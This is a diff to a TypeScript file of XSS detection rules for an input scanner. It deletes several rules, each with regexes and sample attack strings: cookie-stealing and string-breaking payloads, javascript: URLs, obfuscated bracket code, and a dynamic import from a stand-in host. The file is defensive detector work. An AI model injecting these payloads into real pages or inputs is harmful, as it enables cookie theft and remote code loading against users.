@@ -1,6 +1,5 @@
 import type { HtmlShape } from '../tokenise/html-shapes';
 import type { Rule } from './rule';
-import { unlessNamed } from './unless-named';
 import type { Subject } from './subject';
 
 const shape =
@@ -21,6 +20,7 @@ function escapedShape({ hasEscapedMarkup, html }: Subject): number {
 /** What is shown in one line, or compared, or followed: nobody writes markup there. */
 const LABEL_FIELD =
   /^(?:(?:first|last|full|user|display|nick|given|family)[_-]?name|name|user|login|email|mail|redirect(?:_?ur[il])?|return(?:_?ur[il])?|ur[il]|lang|locale|language|sort|order|id|page|city|country|phone|category|tag)$/;
+
 const HEADING_FIELD = /^(?:(?:page|sub|meta)[_-]?)?title$|^subject$|^head(?:ing|line)$/;
 
 function markupInLabel(subject: Subject): number {
@@ -28,10 +28,7 @@ function markupInLabel(subject: Subject): number {
   return HEADING_FIELD.test(subject.field) ? (subject.html.block ?? -1) : -1;
 }
 
-const PAGE_ACCESS =
-  /\bdocument\s{0,3}(?:\?\.)?\[\s{0,3}["'`]cookie|\bdocument\s{0,3}\??\.\s{0,3}(?:cookie|write(?:ln)?\s{0,3}\(|domain\b|location\b|body\.innerHTML|URL\b|forms\b|documentElement\.innerHTML|createElement\s{0,3}\(\s{0,3}["'`]script)|\bwindow\.\s{0,3}(?:location\s{0,3}[.=[]|open\s{0,3}\(|name\b\s{0,3}[,)=]|onerror\s{0,3}=|eval\b|alert\b)|\b(?:top|self|window|parent|frames|this|globalThis|document)\[\s{0,3}(?:["'`/\w(+!\\][^\]\n]{0,80})\]\s{0,3}[([]|(?:^|[^\w.])location\s{0,3}(?:\.href)?\s{0,3}=\s{0,3}["'`]?(?:\/\/|java|http|name|data:|["'`])|\.(?:inner|outer)HTML\s{0,3}\+?=|\beval\(\s{0,3}[^\s)]|\bset(?:Timeout|Interval)\s{0,3}\(\s{0,3}["'`]|\bnew\s{1,3}(?:ActiveXObject|XMLHttpRequest)\b|\bexecScript\s{0,3}\(|\.cookie\s{0,3};\s{0,3}(?:expires|domain)\s{0,3}=/i;
-
-export const xssRules: readonly Rule[] = [
+export const xssMarkupRules: readonly Rule[] = [
   {
     id: 'xss-element',
     version: 4,
@@ -173,86 +170,6 @@ export const xssRules: readonly Rule[] = [
     harmless: ['"done" on time = good', 'the "on" switch', 'the "a" only=true option'],
   },
   {
-    id: 'xss-script-break',
-    version: 1,
-    category: 'xss',
-    severity: 'critical',
-    sees: 'A value that leaves a script string and calls or reads what attacks call and read.',
-    ignores: 'Quoted words.',
-    source: 'ECMAScript',
-    inDocuments: 'notice',
-    needs: [
-      ["'", '"', '`', '}', ')'],
-      [
-        'alert',
-        'confirm',
-        'prompt',
-        'eval',
-        'document',
-        'window',
-        'location',
-        'fetch',
-        'settimeout',
-        'setinterval',
-        'function',
-        'constructor',
-        'import',
-        'open(',
-        'print',
-        'top[',
-        'self[',
-        'this[',
-        'write',
-      ],
-    ],
-    find: /["'`][\s)\]}]{0,9}[;,+\-*/|&^%=<>?:}][\s;}/*+\-!(]{0,12}(?:(?:new|void|typeof|var|let|if)\s{1,9}\w{0,9}[\s(=]{0,4})?(?:(?:window|self|top|this|parent|frames|globalThis)[.[]["']?)?(?:(?:alert|confirm|prompt|eval|fetch|setTimeout|setInterval|import|print)["'\]]{0,2}\s{0,4}(?:[(`]|\.(?:call|apply))|document\s{0,4}[.[]|window\s{0,4}[.[]|location\s{0,4}[.=[])/i,
-    attacks: ["';alert(1)//", '"-prompt`1`-"', "'+document.cookie+'"],
-    harmless: ['the "alert" level', "it's time to confirm (today)"],
-  },
-  {
-    id: 'xss-script-call',
-    version: 1,
-    category: 'xss',
-    severity: 'critical',
-    sees: 'A value that at once leaves a script string, calls any function and opens the string again or comments out the rest.',
-    ignores: 'Quoted words, expressions that begin with a whole string.',
-    source: 'ECMAScript',
-    inDocuments: 'notice',
-    inPasswords: false,
-    needs: [
-      ["'", '"', '`'],
-      ['(', '`'],
-      [';', '-', '+', '*', '|', '&', '^', ','],
-    ],
-    find: /^\s?[\w.@-]{0,40}["'`][)\]}]{0,9}\s{0,3}[-;,+*|&^]{1,3}\s{0,3}(?:[A-Za-z_$][\w$]{0,30}[.[]['"]?){0,3}[A-Za-z_$][\w$]{0,30}['"\]]{0,2}(?:\([^\n()]{0,100}(?:\([^\n()]{0,100}\)[^\n()]{0,40})?\)|`[^`\n]{0,100}`)\s{0,3}(?:[;,)\]}]{0,9}\s{0,3}\/\/|<!--|[-;,+*|&^]{1,3}[\s\w$=({[]{0,20}["'`])/,
-    attacks: ["';steal(1)//", '"-go`1`-"', "x'+top['go'](y(1))+'", '"); send(document); t="'],
-    harmless: ["'a' + b(c) + 'd'", "it's; see (page 3) 'x'", "kate's - call (me)", "'x', f(1), 'y'"],
-  },
-  {
-    id: 'xss-script-scheme',
-    version: 3,
-    category: 'xss',
-    severity: 'critical',
-    sees: 'A value that is an address with a script scheme and code behind it.',
-    ignores: 'The word followed by prose, and addresses that do nothing, as analytics tell them: `void(0)`.',
-    source: 'URL standard',
-    inDocuments: 'notice',
-    needs: [['t:', 'data:']],
-    find: /(?:^|["'=(\s,])\s{0,9}(?:j\s?a\s?v\s?a|v\s?b|live)\s?s\s?c\s?r\s?i\s?p\s?t:(?!\s{0,3}void[\s(]{1,3}0\)?;?\s{0,3}(?:$|["'\]}\\,|]))(?:\/\/|[^\s][^\n]{0,200}[(`=[.]|\s{1,3}[\w$.]{1,40}\s{0,3}[(`=[]|\s{0,4}void)|^\s{0,9}data:\s{0,4}(?:text\/html|image\/svg\+xml|text\/xml|application\/xhtml)[;,]|["'=(]\s{0,9}data:text\/html;|=\s{0,3}["']javascript:["']/i,
-    attacks: [
-      'javascript:go(1)',
-      'javascript:void(0);go(1)',
-      'data:text/html,<b>x',
-      '"data:text/html;base64,PGI+">',
-    ],
-    harmless: [
-      'Javascript: the good parts',
-      'javascript:void(0)',
-      '{"href":"javascript:void(0);","id":""}',
-      'data: text/html is a type',
-    ],
-  },
-  {
     id: 'xss-declaration',
     version: 2,
     category: 'xss',
@@ -265,68 +182,6 @@ export const xssRules: readonly Rule[] = [
     find: shape('declaration'),
     attacks: ['<!--[if gte IE 4]><p>x</p><![endif]-->', '<?import namespace="t" implementation="x">'],
     harmless: ['<!-- a note -->', '<?xml version="1.0"?>'],
-  },
-  {
-    id: 'xss-dialog-call',
-    version: 2,
-    category: 'xss',
-    severity: 'critical',
-    sees: 'The call that proves an injection: alert, confirm or prompt of a literal or of something of the page.',
-    ignores: 'The words in prose, also before a parenthesis.',
-    source: 'HTML standard, user prompts',
-    inDocuments: 'notice',
-    needs: [['alert', 'confirm', 'prompt', 'eval']],
-    find: /\b(?:alert|confirm|prompt)(?:[)\]\\'"]{0,3}\s{0,2}(?:\(|\\{0,3}`|&lpar;)\s{0,2}(?:["'`/\d+[!\\]|(?:document|window|location|String|this|self|top|name|origin|null|undefined|unescape|eval|x|a|xss|navigator|RegExp|localStorage)\b|\)\s{0,2}[^\s\w]|\)$)|\.(?:call|apply|bind|source)\b)|\b(?:find|map|forEach|filter|some|every|call|apply|sort|then|replace|from)\(\s{0,3}(?:alert|confirm|prompt|eval)\b|=\s{0,3}(?:alert|confirm|prompt|eval)\s{0,3}[,;<]/i,
-    attacks: ['alert(1)', 'prompt`1`', 'confirm(document.domain)'],
-    harmless: ['confirm (yes/no)', 'the alert (red)', 'prompt: write'],
-  },
-  {
-    id: 'xss-page-access',
-    version: 3,
-    category: 'xss',
-    severity: 'critical',
-    sees: 'Code that reads the cookies, writes into the page or goes elsewhere.',
-    ignores: 'The names without access to them; names in a sentence.',
-    source: 'DOM standard',
-    inDocuments: 'notice',
-    needs: [
-      [
-        '.cookie',
-        'document',
-        'window.',
-        'window[',
-        'location',
-        'innerhtml',
-        'outerhtml',
-        'self[',
-        'top[',
-        'parent[',
-        'frames[',
-        'this[',
-        'eval(',
-        'settimeout',
-        'setinterval',
-        'xmlhttprequest',
-        'activexobject',
-        'execscript',
-      ],
-    ],
-    find: unlessNamed(PAGE_ACCESS),
-    attacks: [
-      'document["cookie"]',
-      'document.cookie',
-      'how to read document.cookie here; document.cookie=1',
-      "top['al'+'ert'](1)",
-      'eval(name)',
-      "location='//a.example'",
-    ],
-    harmless: [
-      'how to read document.cookie in a test',
-      'document cookie policy',
-      'window.addEventListener',
-      'the location = Madrid',
-      'eval period (ends soon)',
-    ],
   },
   {
     id: 'xss-handler-text',
@@ -457,19 +312,6 @@ export const xssRules: readonly Rule[] = [
     harmless: ['<script>x</script>', '</scripts>', '</b>'],
   },
   {
-    id: 'xss-element-access',
-    version: 1,
-    category: 'xss',
-    severity: 'notice',
-    sees: 'Code that looks up an element of the page.',
-    ignores: 'The words without a call.',
-    source: 'DOM standard',
-    needs: [['document']],
-    find: /\bdocument\s{0,3}\.\s{0,3}(?:getElement\w{1,20}|querySelector\w{0,3})\s{0,3}\(/i,
-    attacks: ['document.getElementById("a")'],
-    harmless: ['document the elements'],
-  },
-  {
     id: 'xss-markup-in-label',
     version: 1,
     category: 'xss',
@@ -488,36 +330,5 @@ export const xssRules: readonly Rule[] = [
       { text: '<a name="b"></a> Found a bug?', field: 'title' },
       { text: 'a <b>bold</b> name', field: 'name' },
     ],
-  },
-  {
-    id: 'xss-bracket-code',
-    version: 2,
-    category: 'xss',
-    severity: 'critical',
-    sees: 'JavaScript that is written with brackets, exclamation marks and plus signs alone.',
-    ignores: 'Emoticons and rules.',
-    source: 'ECMAScript, type conversion',
-    inPasswords: false,
-    needs: [['[]'], ['!', '+', '~', '[][', '[])[']],
-    find: /(?:[!~]{2,3}\[\][\]<+\s]{0,4}){3}|(?:!\[\]|\+\[\]|\(!\[\]|\[\]\)?\[){2}[[\]()!+]{10}/,
-    attacks: ['[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]'],
-    harmless: ['a[] + b[]', '[!] [+] [x]'],
-  },
-  {
-    id: 'xss-remote-code',
-    version: 1,
-    category: 'xss',
-    severity: 'critical',
-    sees: 'Code that loads more code from another site, or from a data URL.',
-    ignores: 'Imports of modules of the same application.',
-    source: 'ECMAScript, dynamic import; HTML standard; jQuery',
-    inDocuments: 'notice',
-    needs: [
-      ['import', 'getscript'],
-      ['//', 'data:', 'getscript'],
-    ],
-    find: /\bimport(?:Scripts)?\s{0,3}\(\s{0,3}["'`](?:(?:https?:)?\/\/|data:)|(?:\$|\bjQuery)\.getScript\s{0,3}\(/i,
-    attacks: ["import('//a.example/x')", '$.getScript("/x")'],
-    harmless: ["import('./x')", 'import (from https://a.example)', 'getScript of jQuery'],
   },
 ];
